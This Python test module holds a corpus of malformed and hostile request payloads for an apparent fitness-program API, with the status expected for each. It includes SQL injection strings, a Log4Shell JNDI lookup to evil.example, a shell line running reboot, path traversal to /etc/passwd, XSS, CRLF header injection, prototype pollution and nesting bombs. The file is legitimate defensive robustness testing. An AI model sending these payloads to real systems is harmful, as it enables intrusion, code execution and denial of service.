"""Bodies and requests that are JSON, or nearly so, and were written to break something."""

import json
from dataclasses import dataclass

from schemas.model import JsonObject
from tests.support.samples import program_request

BAD, WRONG, TAKEN = ("bad_frame", 400), ("invalid_request", 422), ("job.accepted", 202)
"""What the socket says, and REST."""


@dataclass(frozen=True, slots=True)
class Payload:
    """The JSON of a program request, and what is said to it on the socket and by REST."""

    name: str
    request: str
    answers: tuple[str, int]


def _short(**changes: object) -> JsonObject:
    """A program of one week is soon made."""
    return program_request(**{"duration_weeks": 1, "days_per_week": 1, **changes})


def _with(field: str, raw: str, answers: tuple[str, int], name: str = "") -> Payload:
    """A request whose ``field`` is ``raw``, to the letter."""
    request = json.dumps(_short(**{field: "HERE"})).replace('"HERE"', raw)
    return Payload(name or f"{field} is {raw[:40]}", request, answers)


def _extra(name: str, raw_key: str, answers: tuple[str, int] = WRONG, value: str = "1") -> Payload:
    return Payload(name, json.dumps(_short())[:-1] + f", {raw_key}: {value}}}", answers)


def _text(name: str, text: str, answers: tuple[str, int] = TAKEN) -> Payload:
    return _with("goal_raw", json.dumps(text), answers, name)


NUMBERS = [
    _with("height_cm", raw, answers)
    for raw, answers in (
        ("1e999", WRONG),
        ("-1e999", WRONG),
        ("1e-999", WRONG),
        ("-0", WRONG),
        ("NaN", WRONG),
        ("Infinity", WRONG),
        ("-Infinity", WRONG),
        ("9" * 4_000, WRONG),
        ("9" * 5_000, BAD),
        ("0x41", BAD),
        ("0180", BAD),
        ("+180", BAD),
        ("180.", BAD),
        ("1_80", BAD),
        ("18446744073709551616", WRONG),
        ("1.8e2", TAKEN),
    )
]

NESTED = [
    _with("notes", "[" * depth + "]" * depth, answers, f"{depth} lists in each other")
    for depth, answers in ((100, WRONG), (190, WRONG), (1_000, BAD), (30_000, BAD))
] + [
    _with("notes", '{"a":' * depth + "1" + "}" * depth, answers, f"{depth} objects in each other")
    for depth, answers in ((100, WRONG), (1_000, BAD), (10_000, BAD))
]

TEXTS = [
    _text("NUL", "strong\0", WRONG),
    *(_text(f"the control U+{n:04X}", f"a{chr(n)}b", WRONG) for n in (1, 7, 8, 11, 12, 14, 27, 31)),
    *(_text(f"the control U+{n:04X}", f"a{chr(n)}b") for n in (9, 10, 13, 0x7F, 0x85, 0x9B)),
    _with("goal_raw", r'"\ud800"', BAD, "half a surrogate pair"),
    _with("goal_raw", r'"\udc00\ud800"', BAD, "a surrogate pair in the wrong order"),
    _with("goal_raw", r'"\ud83d\udcaa"', TAKEN, "a surrogate pair"),
    _with("goal_raw", r'"\x41"', BAD, "an escape that is none"),
    _with("goal_raw", '"a\nb"', BAD, "a line end that is not escaped"),
    _with("goal_raw", "'strong'", BAD, "the wrong quotes"),
    _text("a bidi override", "\u202eabc\u202d \u2066x\u2069"),
    _text("no characters", "\uffff\ufffe\U0010ffff"),
    _text("a byte order mark inside", "\ufeffstrong"),
    _text("invisible characters", "\u200b\u200d\u2060\u00ad"),
    _text("many marks on a letter", "a" + "\u0301" * 400),
    _text("a family", "👩‍👩‍👧‍👦" * 20),
    _text("a letter that grows when it is made small", "İ" * 400),
    _text("SQL", "'; DROP TABLE jobs; --"),
    _text("SQL of another kind", '1" OR "1"="1'),
    _text("a format string", "%s%n%x {0.__class__.__mro__} {{7*7}} ${7*7}"),
    _text("a look-up by a logger", "${jndi:ldap://evil.example/a}"),
    _text("a shell's line", "$(reboot) `reboot` | reboot; reboot"),
    _text("a path", "../../../../etc/passwd"),
    _text("markup", "<script>alert(1)</script>"),
    _text("a header", "x\r\nSet-Cookie: a=b"),
    _text("an escape of a terminal, in C1", "\x9b31mred"),
    _text("a regular expression's trap", "a" * 400 + "!"),
]

KEYS = [
    *(
        _extra(f"the key {key}", json.dumps(key))
        for key in ("__proto__", "constructor", "__class__", "", "user_id\0", "\u202e")
    ),
    _extra("an object for a prototype", '"__proto__"', value='{"is_admin": true}'),
    _extra("half a surrogate pair as a key", r'"\ud800"', BAD),
    _extra("a key of 50,000 characters", json.dumps("k" * 50_000)),
    _extra("a thousand keys", ", ".join(f'"k{n}": {n}' for n in range(1_000)) + ', "k"'),
    _extra("a key twice", '"goal_raw"', TAKEN, value='"once more"'),
    _extra("a key twice, at last wrong", '"height_cm"', value="1"),
    _extra("a number as a key", "7", BAD),
    _extra("a comma too many", '"fresh": true,', BAD, value=""),
]

WHOLES = [
    Payload("nothing", "", BAD),
    Payload("blanks", " \n\t ", BAD),
    Payload("null", "null", BAD),
    Payload("a list", "[]", BAD),
    Payload("a text", '"{}"', BAD),
    Payload("an empty object", "{}", WRONG),
    Payload("two objects", "{}{}", BAD),
    Payload("half an object", '{"user_id": "', BAD),
    Payload("a comment", "{} // no", BAD),
    Payload("NUL behind the object", "{}\0", BAD),
]

LISTS = [
    _with("equipment", json.dumps(["gym"] * 7_000), WRONG, "7,000 things"),
    _with("equipment", json.dumps({"gym": 1}), WRONG),
    _with("injuries", json.dumps(["knee\0"]), WRONG),
    _with("injuries", json.dumps([["knee"]]), WRONG),
    _with("unavailable_days", json.dumps([True, 1, None, "mon"]), WRONG),
    _with("user_id", json.dumps("' OR 1=1 --".ljust(36)), WRONG),
    _with("user_id", json.dumps("6f1c7c9e-2f4b-4a55-9f4e-0f8c8a1d2b3c\n"), WRONG),
    _with("locale", json.dumps("en\nde"), WRONG),
    _with("locale", json.dumps("e" * 36), WRONG),
]

PAYLOADS = [*NUMBERS, *NESTED, *TEXTS, *KEYS, *WHOLES, *LISTS]

MARKED = "\ufeff{}"
"""Begins with a byte order mark."""

JOB = "6f1c7c9e-2f4b-4a55-9f4e-0f8c8a1d2b3c"

FRAMES = {
    "a byte order mark": '\ufeff{"type":"ping"}',
    "a type twice": '{"type":"ping","type":"explode"}',
    "an id that is a list": '{"type":"ping","id":["after"]}',
    "an id that is true": '{"type":"ping","id":true}',
    "another hello": '{"type":"hello","id":"h"}',
    "a seq below zero": f'{{"type":"job.subscribe","id":"1","job_id":"{JOB}","after":-1}}',
    "a seq beyond what JavaScript counts": f'{{"type":"job.subscribe","id":"1","job_id":"{JOB}","after":{2**53}}}',
    "a seq with a fraction": f'{{"type":"job.subscribe","id":"1","job_id":"{JOB}","after":1.5}}',
    "a seq that is true": f'{{"type":"job.subscribe","id":"1","job_id":"{JOB}","after":true}}',
    "a seq as text": f'{{"type":"job.subscribe","id":"1","job_id":"{JOB}","after":"1"}}',
    "a limit of infinity": '{"type":"jobs.list","id":"1","limit":1e999}',
    "a limit that is no number": '{"type":"jobs.list","id":"1","limit":NaN}',
    "a cursor with NUL": '{"type":"jobs.list","id":"1","cursor":"\\u0000"}',
    "a key with NUL": '{"type":"job.submit","id":"1","kind":"generate","request":{},"idempotency_key":"\\u0000"}',
    "a prototype": '{"type":"ping","__proto__":{"type":"hello"}}',
}
"""Each a bad frame."""

GREETINGS = {
    "more jobs to resume than there may be": (1_025, 4501),
    "ten thousand jobs to resume": (10_000, 1009),
}
"""``hello`` with so many points, and the code that the socket is closed with."""

QUERIES = {
    "/api/programs?cursor=%00": 422,
    "/api/programs?cursor=%ff": 422,
    "/api/webhooks?cursor=%00": 422,
    "/api/webhooks/%00": 404,
    "/api/programs?cursor=" + "x" * 201: 422,
    "/api/programs?cursor='%20OR%201=1%20--": 422,
    "/api/programs?limit=0": 422,
    "/api/programs?limit=101": 422,
    "/api/programs?limit=1e2": 422,
    "/api/programs?limit=%00": 422,
    "/api/programs?limit=" + "9" * 5_000: 422,
    "/api/programs?user_id=%00": 422,
    "/api/programs?user_id[]=x": 200,
    f"/api/programs?user_id={JOB}%0a": 422,
    f"/api/programs/status/{JOB}?wait=nan": 422,
    f"/api/programs/status/{JOB}?wait=inf": 422,
    f"/api/programs/status/{JOB}?wait=-1": 422,
    f"/api/programs/status/{JOB}?wait=1e999": 422,
    f"/api/programs/status/{JOB}?after=-1": 422,
    f"/api/programs/status/{JOB}?after=" + "9" * 5_000: 422,
    f"/api/programs/status/{JOB}?after=" + "9" * 30: 404,
    "/api/programs/status/%00": 404,
    "/api/programs/status/%ff": 404,
    "/api/programs/status/%0d%0aSet-Cookie:%20a=b": 404,
    "/api/programs/status/" + "x" * 5_000: 404,
    "/api/programs/status/%e2%80%ae": 404,
    "/api/programs/%2e%2e%2f%2e%2e": 404,
    f"/api/programs/{JOB}?format=exe": 422,
    f"/api/programs/{JOB}?at=99:99": 422,
    f"/api/programs/{JOB}?at=12:00%0a": 422,
    f"/api/programs/{JOB}?start=0000-00-00": 422,
    f"/api/programs/{JOB}?start=1e99": 422,
}
"""Addresses, and the status of their answer."""
